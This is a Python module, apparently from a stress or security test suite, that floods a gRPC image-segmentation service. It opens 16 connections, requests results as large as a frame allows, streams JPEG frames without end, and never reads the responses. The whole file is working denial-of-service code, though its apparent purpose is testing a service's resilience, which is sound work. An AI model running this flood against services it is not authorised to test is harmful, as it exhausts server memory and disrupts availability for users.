"""Streams that ask for large results and never read them."""

from __future__ import annotations

import asyncio
import math
from typing import Any

import grpc.aio

from attacks.floods import count_end
from attacks.messages import SEGMENT, max_frame_bytes, stream_frame, stream_options
from attacks.pictures import usual_jpeg
from attacks.target import Seen, Target
from edgeseg.v1 import segmentation_pb2 as pb

STREAMS = 16
OUTPUTS = [pb.OUTPUT_LABELS, pb.OUTPUT_CONFIDENCE_MAP]
"""Each a byte a pixel."""


def unread(target: Target, until: float, seen: Seen) -> None:
    """Each stream on a connection of its own, with results as large as a frame may be."""
    side = math.isqrt(max_frame_bytes(target) // len(OUTPUTS))
    size = pb.OutputSize(width=side, height=side)
    options = pb.SegmentationOptions(outputs=OUTPUTS, size=size)
    asyncio.run(_all(target, options, until, seen))


async def _all(target: Target, options: pb.SegmentationOptions, until: float, seen: Seen) -> None:
    await asyncio.gather(*(_one(target, options, until, seen) for _ in range(STREAMS)))


async def _one(target: Target, options: pb.SegmentationOptions, until: float, seen: Seen) -> None:
    own = [("grpc.use_local_subchannel_pool", 1), ("grpc.max_receive_message_length", -1)]
    async with grpc.aio.insecure_channel(target.grpc, options=own) as channel:
        while asyncio.get_running_loop().time() < until:
            call: Any = channel.stream_stream(SEGMENT)()
            try:
                async with asyncio.timeout_at(until):
                    await call.write(stream_options(options=options))
                    while True:
                        await call.write(stream_frame(usual_jpeg()))
                        seen["frames sent"] += 1
            except TimeoutError:
                call.cancel()
            except (grpc.aio.AioRpcError, asyncio.InvalidStateError):
                await count_end(call, seen)
